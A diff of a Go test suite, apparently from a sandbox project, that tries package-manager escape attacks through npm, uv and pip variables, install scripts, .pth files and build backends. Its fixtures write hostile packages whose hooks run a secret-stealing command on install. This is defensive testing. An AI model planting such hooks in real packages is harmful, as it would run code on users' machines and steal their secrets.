@@ -3,13 +3,10 @@
 package attack
 
 import (
-	"encoding/base64"
 	"fmt"
 	"os"
-	"os/exec"
 	"path/filepath"
 	"slices"
-	"strings"
 	"testing"
 
 	"github.com/agent-discover/agent-discover/backend/testing/markettest"
@@ -27,6 +24,10 @@ const (
 	built     = "build"
 	atStart   = "start"
 	leftovers = "leftovers"
+	ofPIP     = "programs of pip"
+	reached   = "variables"
+	aliased   = "aliases"
+	folders   = "folders"
 )
 
 // ofPackages are the attacks of packages in the order of their table.
@@ -37,10 +38,14 @@ var ofPackages = []row{
 	{ofGit, "with variables of git", false},
 	{ofNPM, "with variables of npm, such as `npm_config_git` and `npm_config_userconfig`", false},
 	{ofUV, "with variables of uv, such as `UV_PYTHON` and `UV_CONFIG_FILE`", false},
+	{ofPIP, "with variables of pip, such as `PIP_CONFIG_FILE` and `PIP_INDEX_URL`, while a Python package is built", false},
 	{programsPath, "with programs such as `node` in its `PATH`", false},
-	{scripts, "with scripts of the package and its dependencies", false},
+	{reached, "hand one of these variables, `GLIBC_TUNABLES` or `PIP_REQUIRE_VIRTUALENV` to `npm` or `uv`", false},
+	{scripts, "run code outside of its sandbox with scripts of the package and its dependencies", false},
+	{aliased, "run code outside of its sandbox with dependencies that have other names (`npm:other@1`)", false},
 	{fromGit, "with a dependency from a git repository", false},
-	{fromFiles, "read files of yours that are its dependencies", false},
+	{folders, "with folders of yours that its options name (`--from`, `--with-editable`)", false},
+	{fromFiles, "read files of yours that are its dependencies, or that its options name (`--index`)", false},
 	{fromHere, "connect to this computer for a dependency", false},
 	{linked, "start a program of yours in the place of its own, with a link", false},
 	{built, "run code outside of its sandbox while a Python package is built", false},
@@ -49,7 +54,9 @@ var ofPackages = []row{
 }
 
 // installations are tried at the same time, each in a home of its own.
-var installations = []installation{
+var installations = slices.Concat(ofNodePackages, ofPythonPackages, referring, furtherSettings)
+
+var ofNodePackages = []installation{
 	{
 		name: "variables of Node and npm", command: "npx", pkg: "plain", installed: true,
 		variables: append(variationsOf(linker, "NODE_OPTIONS"), []variation{
@@ -110,6 +117,9 @@ var installations = []installation{
 	{
 		name: "leftovers of npm", command: "npx", pkg: "leaving", installed: true, starts: 3, publish: publishLeaving, attacks: leftOver,
 	},
+}
+
+var ofPythonPackages = []installation{
 	{
 		name: "Python", command: "uvx", pkg: "tiny", variables: []variation{
 			{
@@ -206,26 +216,11 @@ func (i *installing) javaScript(name string) string {
 // refused. The server looks for the key in what was installed.
 func publishCollecting(t *testing.T, i *installing) {
 	repository := filepath.Join(i.Dir, "repository")
-	for name, text := range map[string]string{
+	putAll(t, repository, map[string]string{
 		"package.json": fmt.Sprintf(`{"name":"git","version":"1.0.0","scripts":{"prepare":%q}}`, i.steal("git")),
 		".npmrc":       "git=./evil\nscript-shell=./evil\n", "evil": "#!/bin/sh\n" + i.steal("git") + "\n",
-	} {
-		if err := os.MkdirAll(repository, 0o755); err != nil {
-			t.Fatal(err)
-		}
-		if err := os.WriteFile(filepath.Join(repository, name), []byte(text), 0o755); err != nil {
-			t.Fatal(err)
-		}
-	}
-	for _, args := range [][]string{
-		{"init", "-q"}, {"add", "."}, {"-c", "user.name=t", "-c", "user.email=t@example.com", "commit", "-qm", "all"},
-	} {
-		git := exec.CommandContext(t.Context(), "git", args...)
-		git.Dir = repository
-		if out, err := git.CombinedOutput(); err != nil {
-			t.Logf("left out, because git cannot be used: %s", out)
-		}
-	}
+	})
+	commitAll(t, repository)
 	look := ""
 	for _, name := range []string{"folder", "archive"} {
 		look += fmt.Sprintf("try { const found = require('node:fs').readFileSync(__dirname + '/../%s/secret'); "+
@@ -307,16 +302,7 @@ func publishSource(t *testing.T, i *installing) {
 	wheel := markettest.Wheel(t, "sourced", map[string]string{
 		"sourced.py": i.module("entry"), "sourced.pth": fmt.Sprintf("import os; os.system(%q)\n", i.steal("pth")),
 	})
-	build := "import base64, os\ndef build_wheel(directory, settings=None, metadata=None):\n" +
-		fmt.Sprintf("    os.system(%q)\n", i.steal("build")) +
-		"    open(directory + '/sourced-1.0-py3-none-any.whl', 'wb').write(base64.b64decode(open('wheel').read()))\n" +
-		"    return 'sourced-1.0-py3-none-any.whl'\n"
-	i.PublishPython("sourced", "sourced-1.0.tar.gz", markettest.Tarball(t, "sourced-1.0/", map[string]string{
-		"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\".\"]\n[project]\n" +
-			"name = \"sourced\"\nversion = \"1.0\"\n",
-		"backend.py": build, "wheel": base64.StdEncoding.EncodeToString(wheel),
-		"PKG-INFO": "Metadata-Version: 2.1\nName: sourced\nVersion: 1.0\n",
-	}))
+	i.PublishPython("sourced", "sourced-1.0.tar.gz", markettest.Tarball(t, "sourced-1.0/", i.projectOf("sourced", "build", wheel)))
 }
 
 // publishReturning publishes a Python package that names a folder of the user as that of its Python, for its next start.
@@ -328,18 +314,4 @@ func publishReturning(t *testing.T, i *installing) {
 			fmt.Sprintf("    text = ['home = %s/private/bin' if line.startswith('home') else line for line in text]\n", i.Dir) +
 			"    open(sys.prefix + '/pyvenv.cfg', 'w').write('\\n'.join(text) + '\\n')\n",
 	})
-}
-
-// cellOf says whether an attack or a variation of it has succeeded. It is empty if none could be tried.
-func cellOf(r result, attack string) (cell string) {
-	for name, possible := range r {
-		switch {
-		case !strings.HasPrefix(name, attack+": "):
-		case possible:
-			return "**possible**"
-		default:
-			cell = refused
-		}
-	}
-	return cell
 }
